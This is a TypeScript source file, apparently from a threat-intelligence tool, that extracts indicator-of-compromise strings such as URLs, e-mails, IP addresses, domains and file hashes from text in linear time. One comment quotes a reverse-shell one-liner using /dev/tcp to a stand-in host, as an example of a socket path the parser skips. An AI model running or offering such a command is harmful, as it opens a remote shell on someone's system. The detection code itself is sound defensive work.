// Finding IOC-shaped strings in (refanged) text. Every scan is linear in the text:
// - URLs start at a literal scheme and run to the first character a URL cannot hold;
// - e-mails start at an `@` and grow outwards over bounded runs that stop at the next `@`;
// - IPv6 addresses start at a `:` and take the run of hex digits, colons and dots around it;
//   runs never overlap, so each character is looked at a bounded number of times;
// - IPv4 addresses, domains and hashes are maximal runs of host characters, scanned by hand
//   with a lookup table; a bare URL is a host run followed by `/path`.
// No pattern here has nested or overlapping quantifiers: a megabyte without spaces, 20 KB of
// dots or a million `@` cost one pass each (test/unit/extract/performance.test.ts).
import ipaddr from 'ipaddr.js';
import type { IocType } from '../ioc/types.js';

export interface Candidate {
  /** The type the shape says; normalization decides whether it really is one. */
  type: IocType;
  /** [start, end) in the scanned text. */
  start: number;
  end: number;
  value: string;
}

/** No URL is longer (browsers and servers cap them about here); nor is any other value. */
export const MAX_URL_LENGTH = 2048;
const MAX_EMAIL_LOCAL = 64;
const MAX_HOST = 253;
const MAX_IPV6 = 50;

// No word boundary in front: `…/athletehttps://t.co/x` is two links run together.
const URL_START = /(?:https?|ftps?|wss?):\/\//gi;
/** The scheme that ends a word: `athletehttps` → `https`, the start of the next URL. */
const SCHEME_SUFFIX = /(?:https?|ftps?|wss?)$/i;
/** A URL ends at whitespace, quotes, angle brackets and the characters RFC 3986 excludes. */
const URL_STOP = /[\s<>"'`{}|\\^\u201C\u201D\u2018\u2019\u00AB\u00BB\u3000]/;
/** Punctuation that ends a sentence rather than a URL. */
const URL_TRAILING = /[.,;:!?*]/;
const WORD_CHAR = /[\p{L}\p{N}_]/u;
const HEX = /^[0-9a-f]+$/i;
const HASH_TYPE_BY_LENGTH: Readonly<Record<number, IocType>> = { 32: 'md5', 40: 'sha1', 64: 'sha256', 128: 'sha512' };
const DOTTED_QUAD = /^\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}$/;
const HAS_LETTER = /\p{L}/u;
const CIDR_SUFFIX = /^\/\d{1,3}(?![\w/.])/;
const PATH_START = /^\/[^\s/]/;

/** Spans already claimed by a URL or an e-mail, sorted and disjoint: hosts inside them are not domains of their own. */
class Claimed {
  private readonly spans: [number, number][] = [];
  /** Queries move forward; the cursor skips the spans that end before the current query. */
  private cursor = 0;

  add(start: number, end: number): void {
    this.spans.push([start, end]);
  }

  /** Sorts the spans and rewinds the cursor: call after adding, before the next forward walk. */
  sort(): void {
    this.spans.sort((a, b) => a[0] - b[0]);
    this.cursor = 0;
  }

  /** Whether [start, end) overlaps a span; `start` must not decrease between calls (until the next sort). */
  covers(start: number, end: number): boolean {
    while (this.cursor < this.spans.length && (this.spans[this.cursor] as [number, number])[1] <= start) this.cursor++;
    const span = this.spans[this.cursor];
    return span !== undefined && span[0] < end;
  }
}

/** URL_STOP for ASCII as a lookup table (one array read a character, not a regex test). */
const URL_STOP_ASCII = new Uint8Array(128);
for (let code = 0; code < 128; code++) URL_STOP_ASCII[code] = URL_STOP.test(String.fromCharCode(code)) ? 1 : 0;

function isUrlStop(text: string, index: number): boolean {
  const code = text.charCodeAt(index);
  return code < 128 ? URL_STOP_ASCII[code] === 1 : URL_STOP.test(text[index] as string);
}

/** Where a URL that starts at `start` ends: first stop character, then trailing punctuation and unbalanced closers dropped. */
function urlEnd(text: string, start: number): number {
  let end = start;
  const limit = Math.min(text.length, start + MAX_URL_LENGTH + 64);
  while (end < limit && !isUrlStop(text, end)) {
    // A second `://` is a second URL run on (`…/athletehttps://t.co/x`): this one ends where
    // that one's scheme starts. Only a `:` is looked at twice.
    if (text.charCodeAt(end) === 58 /* : */ && text.startsWith('//', end + 1)) {
      const scheme = SCHEME_SUFFIX.exec(text.slice(Math.max(start, end - 5), end));
      if (scheme !== null) {
        end -= scheme[0].length;
        break;
      }
    }
    end++;
  }
  for (;;) {
    const last = text[end - 1] as string;
    if (URL_TRAILING.test(last)) {
      end--;
      continue;
    }
    const opener = last === ')' ? '(' : last === ']' ? '[' : undefined;
    if (opener === undefined) break;
    const body = text.slice(start, end);
    if (body.split(opener).length >= body.split(last).length) break;
    end--;
  }
  return end;
}

function findUrls(text: string, out: Candidate[]): void {
  URL_START.lastIndex = 0;
  for (let match = URL_START.exec(text); match !== null; match = URL_START.exec(text)) {
    const start = match.index;
    const end = urlEnd(text, start + match[0].length);
    if (end > start + match[0].length) {
      out.push({ type: 'url', start, end, value: text.slice(start, end) });
    }
    URL_START.lastIndex = Math.max(end, start + match[0].length);
  }
}

/** ASCII character classes as a lookup table: one array read per character instead of a regex test. */
const LOCAL = 1; // may be in an e-mail's local part
const DOMAIN = 2; // may be in a host name
const IPV6 = 4; // may be in an IPv6 address (hex digits, `:`, `.`)
const WORDISH = 8; // letter, digit or `_`: glues a run to a word
const CLASSES = new Uint8Array(128);
for (let code = 0; code < 128; code++) {
  const character = String.fromCharCode(code);
  let bits = 0;
  if (/[A-Za-z0-9!#$%&*+/=?^_{|}~.-]/.test(character)) bits |= LOCAL;
  if (/[A-Za-z0-9.-]/.test(character)) bits |= DOMAIN;
  if (/[0-9A-Fa-f:.]/.test(character)) bits |= IPV6;
  if (/[A-Za-z0-9_]/.test(character)) bits |= WORDISH;
  CLASSES[code] = bits;
}

/** Whether the character at `index` has `bit`; non-ASCII characters are letters (WORDISH) and nothing else. */
function has(text: string, index: number, bit: number): boolean {
  const code = text.charCodeAt(index);
  if (Number.isNaN(code)) return false;
  if (code < 128) return ((CLASSES[code] as number) & bit) !== 0;
  return bit === WORDISH && WORD_CHAR.test(text[index] as string);
}

/** Whether text[from, to) holds a dot (no slice made; never looks past `to`). */
function hasDot(text: string, from: number, to: number): boolean {
  for (let i = from; i < to; i++) if (text.charCodeAt(i) === 46) return true;
  return false;
}

function findEmails(text: string, out: Candidate[], claimed: Claimed): void {
  for (let at = text.indexOf('@'); at !== -1; at = text.indexOf('@', at + 1)) {
    let start = at;
    while (start > 0 && at - start < MAX_EMAIL_LOCAL && has(text, start - 1, LOCAL)) start--;
    // `emailAddress=x@evil.com` (a certificate's subject): the field name is not the local part.
    let field = at - 1;
    while (field >= start && text.charCodeAt(field) !== 61 /* = */) field--;
    if (field >= start && /^[A-Za-z]+$/.test(text.slice(start, field))) start = field + 1;
    while (start < at && (text[start] === '.' || text[start] === '/' || text[start] === '=')) start++;
    let end = at + 1;
    while (end < text.length && end - at <= MAX_HOST && has(text, end, DOMAIN)) end++;
    while (end > at + 1 && (text[end - 1] === '.' || text[end - 1] === '-')) end--;
    if (start === at || end === at + 1 || !hasDot(text, at + 1, end)) continue;
    if (claimed.covers(start, end)) continue;
    out.push({ type: 'email', start, end, value: text.slice(start, end) });
  }
}

/**
 * IPv6 addresses: from each `:` not yet seen, the whole run of hex digits, colons and dots
 * around it. Runs never overlap (the left edge stops where the last run ended), so the scan is
 * linear; a run longer than any address is skipped whole.
 */
function findIpv6(text: string, out: Candidate[], claimed: Claimed): void {
  let from = 0;
  for (let colon = text.indexOf(':', from); colon !== -1; colon = text.indexOf(':', from)) {
    let start = colon;
    while (start > from && has(text, start - 1, IPV6)) start--;
    let end = colon + 1;
    while (end < text.length && has(text, end, IPV6)) end++;
    from = end;
    if (end - start > MAX_IPV6) continue;
    // The run must stand alone: `std::vector`, `12:30:45am` are not addresses.
    if ((start > 0 && has(text, start - 1, WORDISH)) || (end < text.length && has(text, end, WORDISH))) continue;
    while (end > start && (text[end - 1] === '.' || (text[end - 1] === ':' && text[end - 2] !== ':'))) end--;
    const value = text.slice(start, end);
    if (!value.includes(':') || !ipaddr.IPv6.isValid(value) || claimed.covers(start, end)) continue;
    const prefix = CIDR_SUFFIX.exec(text.slice(end, end + 5));
    const withPrefix = prefix === null ? end : end + prefix[0].length;
    out.push({ type: 'ipv6', start, end: withPrefix, value: text.slice(start, withPrefix) });
  }
}

/** `bash -i >& /dev/tcp/203.0.113.7/4444`: a shell's socket path names an address and a port, not a URL. */
const SOCKET_PATH = /\/dev\/(?:tcp|udp)\/$/;

/** After a host run: `/24` makes a network, `/path` a URL without a scheme. */
function hostTail(text: string, start: number, end: number): { kind: 'cidr' | 'path' | 'none'; end: number } {
  if (text[end] !== '/') return { kind: 'none', end };
  if (SOCKET_PATH.test(text.slice(Math.max(0, start - 9), start))) return { kind: 'none', end };
  const ahead = text.slice(end, end + 5);
  const cidr = CIDR_SUFFIX.exec(ahead);
  if (cidr !== null) return { kind: 'cidr', end: end + cidr[0].length };
  if (!PATH_START.test(text.slice(end, end + 2))) return { kind: 'none', end };
  return { kind: 'path', end: urlEnd(text, end) };
}

function classifyRun(text: string, start: number, end: number, out: Candidate[]): void {
  const run = text.slice(start, end);
  const hashType = run.length <= 128 && HEX.test(run) ? HASH_TYPE_BY_LENGTH[run.length] : undefined;
  if (hashType !== undefined) {
    out.push({ type: hashType, start, end, value: run });
    return;
  }
  if (!run.includes('.')) {
    splitForHashes(run, start, out);
    return;
  }
  if (run.length > MAX_HOST) return;
  const isQuad = DOTTED_QUAD.test(run);
  if (!isQuad && !HAS_LETTER.test(run)) return; // version numbers: 1.4.12, 10.0.19041.1
  const tail = hostTail(text, start, end);
  if (tail.kind === 'path') {
    out.push({ type: 'url', start, end: tail.end, value: text.slice(start, tail.end) });
    return;
  }
  if (isQuad) {
    const stop = tail.kind === 'cidr' ? tail.end : end;
    out.push({ type: 'ipv4', start, end: stop, value: text.slice(start, stop) });
    return;
  }
  out.push({ type: 'domain', start, end, value: run });
}

/** `sample_<md5>` or `<sha256>-x`: a hash joined to a word by `_` or `-`. */
function splitForHashes(run: string, start: number, out: Candidate[]): void {
  if (run.length < 33) return;
  let pieceStart = 0;
  for (let i = 0; i <= run.length; i++) {
    if (i < run.length && run[i] !== '_' && run[i] !== '-') continue;
    const length = i - pieceStart;
    const hashType = HASH_TYPE_BY_LENGTH[length];
    if (hashType !== undefined && HEX.test(run.slice(pieceStart, i))) {
      out.push({ type: hashType, start: start + pieceStart, end: start + i, value: run.slice(pieceStart, i) });
    }
    pieceStart = i + 1;
  }
}

/** A letter, digit or `_` (ASCII by table, other scripts by their Unicode class). */
function isHostStart(text: string, index: number): boolean {
  const code = text.charCodeAt(index);
  if (code < 128) return ((CLASSES[code] as number) & WORDISH) !== 0;
  return WORD_CHAR.test(text[index] as string);
}

/**
 * Maximal runs of host characters (`[\p{L}\p{N}_][\p{L}\p{N}_.-]*`), scanned by hand so that
 * plain words (no dot, too short for a hash) cost no string at all.
 */
function findHostRuns(text: string, out: Candidate[], claimed: Claimed): void {
  const length = text.length;
  let i = 0;
  while (i < length) {
    if (!isHostStart(text, i)) {
      i++;
      continue;
    }
    const start = i;
    let dotted = false;
    while (i < length) {
      const code = text.charCodeAt(i);
      if (code === 46 /* . */) dotted = true;
      else if (code !== 45 /* - */ && !isHostStart(text, i)) break;
      i++;
    }
    let end = i;
    while (end > start && (text[end - 1] === '.' || text[end - 1] === '-' || text[end - 1] === '_')) end--;
    const runLength = end - start;
    if (runLength < 4 || (!dotted && runLength < 32)) continue;
    if (claimed.covers(start, end)) continue;
    classifyRun(text, start, end, out);
  }
}

/**
 * Every IOC-shaped string in `text`, in order of position. Hosts inside a URL or an e-mail are
 * not reported again as domains; IPv6 and host-run candidates may overlap and are resolved by
 * normalization (only one of them parses).
 */
export function findCandidates(text: string): Candidate[] {
  const out: Candidate[] = [];
  const claimed = new Claimed();
  const claim = (found: Candidate[]): void => {
    for (const candidate of found) {
      out.push(candidate);
      claimed.add(candidate.start, candidate.end);
    }
    claimed.sort();
  };
  const urls: Candidate[] = [];
  findUrls(text, urls);
  claim(urls);
  const emails: Candidate[] = [];
  findEmails(text, emails, claimed);
  claim(emails);
  if (text.includes(':')) {
    const addresses: Candidate[] = [];
    findIpv6(text, addresses, claimed);
    claim(addresses);
  }
  findHostRuns(text, out, claimed);
  return out.sort((a, b) => a.start - b.start || b.end - a.end);
}
